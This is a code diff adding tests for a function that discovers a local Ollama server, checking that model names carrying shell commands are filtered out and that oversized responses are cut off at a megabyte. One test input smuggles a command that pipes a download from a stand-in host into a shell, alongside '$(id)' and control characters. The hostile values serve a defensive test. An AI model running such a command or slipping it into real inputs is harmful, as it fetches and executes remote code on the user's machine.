@@ -28,6 +28,25 @@ test('finds a running Ollama and its models', async () => {
   expect(paths).toEqual(['/api/tags']);
 });
 
+test('leaves out names that would be commands in a shell', async () => {
+  const names = ['qwen3:4b', 'x; curl evil.example | sh', '$(id)', 'a\nid', 'a\u0003', ''];
+  const address = await serve((_, res) => res.end(JSON.stringify({ models: names.map((name) => ({ name })) })));
+  expect((await findOllama(address))[0]?.models).toEqual(['qwen3:4b']);
+});
+
+test('does not read more than a megabyte', async () => {
+  let isClosed = false;
+  const address = await serve((_, res) => {
+    const write = () => {
+      if (!isClosed) res.write(' '.repeat(2 ** 16), () => void setImmediate(write));
+    };
+    res.on('close', () => (isClosed = true));
+    write();
+  });
+  expect(await findOllama(address, 60_000)).toEqual([]);
+  await expect.poll(() => isClosed).toBe(true);
+});
+
 test.each<[string, RequestListener]>([
   ['answers something else', (_, res) => res.end('<html>')],
   ['redirects', (_, res) => res.writeHead(302, { Location: 'http://127.0.0.1:1/' }).end()],
